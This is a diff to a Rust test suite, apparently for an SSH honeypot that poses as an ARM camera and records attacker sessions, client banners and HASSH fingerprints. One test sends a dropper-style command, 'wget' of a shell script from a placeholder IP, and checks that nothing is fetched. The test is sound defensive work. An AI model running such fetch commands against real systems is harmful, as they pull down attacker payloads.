@@ -314,6 +314,7 @@ mod ssh {
         let (lures, folder) = (Process::start(7, "camera", &[Lure::Ssh]), tempfile::tempdir().unwrap());
         let mut command = client("ssh", folder.path());
         let done = command.args(["root@127.0.0.1", "uname -m; wget http://192.0.2.66/x.sh"]).output().unwrap();
+        assert_eq!(done.status.code(), Some(1), "nothing was fetched");
         assert!(String::from_utf8_lossy(&done.stdout).starts_with("armv5tejl\n"), "{done:?}");
         let session = lures.dialogue().session;
         assert_eq!(
@@ -322,6 +323,11 @@ mod ssh {
         );
         assert!(session.client.is_some_and(|name| name.starts_with("SSH-2.0-OpenSSH")));
         assert!(session.fingerprint.is_some_and(|hassh| hassh.len() == 32));
+        for (line, status) in [("true", 0), ("no-such-program", 127), ("exit 3", 3)] {
+            let done = client("ssh", folder.path()).args(["root@127.0.0.1", line]).output().unwrap();
+            assert_eq!(done.status.code(), Some(status), "{line}");
+            lures.dialogue();
+        }
         let script = [("# ", "id\n"), ("uid=0(root)", "exit\n")];
         converse(client("ssh", folder.path()).args(["-tt", "root@127.0.0.1"]), &script);
         assert_eq!(lures.dialogue().session.commands, ["id", "exit"]);
